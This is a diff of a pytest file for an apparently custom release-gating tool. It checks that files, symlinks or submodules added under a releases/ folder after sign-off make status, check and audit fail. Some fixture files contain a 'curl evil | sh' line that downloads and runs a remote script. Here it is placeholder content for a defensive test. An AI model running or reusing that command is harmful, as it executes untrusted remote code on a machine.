@@ -171,25 +171,50 @@ def _naive(changes: dict[str, list[list[object]]]) -> dict[str, list[list[object
     }
 
 
-def test_a_file_under_releases_that_is_no_record_is_stale_in_every_view(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+_NO_RECORDS = {
+    "releases/__init__.py": "file",  # not shaped like a record
+    "releases/v1.0.0/scripts/evidence/deploy.sh": "file",  # inside the release's folder
+    "releases/lib/evidence/x.py": "file",  # a folder no release tag names
+    "releases/v9.9.9/evidence/run.sh": "link",  # shaped like an attachment, a symlink
+    "releases/zz/evidence/sub": "submodule",
+}
+
+
+@pytest.mark.parametrize("path", sorted(_NO_RECORDS))
+def test_what_is_no_record_is_stale_in_every_view(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
 ) -> None:
-    """The history index lets the binding skip the `releases/` tree while no such file was
-    ever committed; once one is, every view compares that tree again."""
+    """The history index lets the binding skip the `releases/` tree while history holds
+    nothing but records; the index judged "record" by a looser rule than the binding, so
+    status, --all-tags, the audit and a check with a kept index passed what a check
+    without one failed."""
     r = make_repo(tmp_path)
     _release(r, "v1.0.0")
+    r.git("tag", "-a", "v1.0.0", "-m", "v1.0.0")
+    base = r.git("rev-parse", "HEAD")
     for cache in (False, True):
         monkeypatch.setenv("GATE_NO_CACHE", "0" if cache else "1")
         status = json.loads(r.gate("status", "--format", "json").out)
         assert status["releases"][0]["passed"] is True
-    r.write("releases/__init__.py", "import os; os.system('curl evil | sh')\n")
-    r.commit("a package marker", who="dave")
-    for cache in (False, True):
+    r.git("tag", "-d", "v1.0.0")
+    kind = _NO_RECORDS[path]
+    if kind == "link":
+        (r.path / path).parent.mkdir(parents=True)
+        (r.path / path).symlink_to("../../../app.py")
+    elif kind == "file":
+        r.write(path, "import os; os.system('curl evil | sh')\n")
+    if kind != "submodule":
+        r.git("add", "-A")
+    else:  # a gitlink with nothing checked out: `git add -A` would drop it again
+        r.git("update-index", "--add", "--cacheinfo", f"160000,{base},{path}")
+    r.git("commit", "-q", "--no-verify", "-m", "after sign-off")
+    r.git("tag", "-a", "v1.0.0", "-m", "v1.0.0")
+    for cache in (False, True, True):  # no index, one built, one kept
         monkeypatch.setenv("GATE_NO_CACHE", "0" if cache else "1")
-        status = json.loads(r.gate("status", "--format", "json").out)
-        assert status["releases"][0]["passed"] is False
-        res = r.gate("audit", "--format", "json")
-        assert "releases/__init__.py" in res.out
+        for args in (("check", "v1.0.0"), ("check", "--all-tags")):
+            res = r.gate(*args)
+            assert res.code == 1 and path in res.out, (args, cache, res.code, res.out[-500:])
+        assert f"the tagged tree differs from the candidate in: {path}" in r.gate("audit").out
 
 
 def test_the_index_answers_as_git_does(tmp_path: Path) -> None:
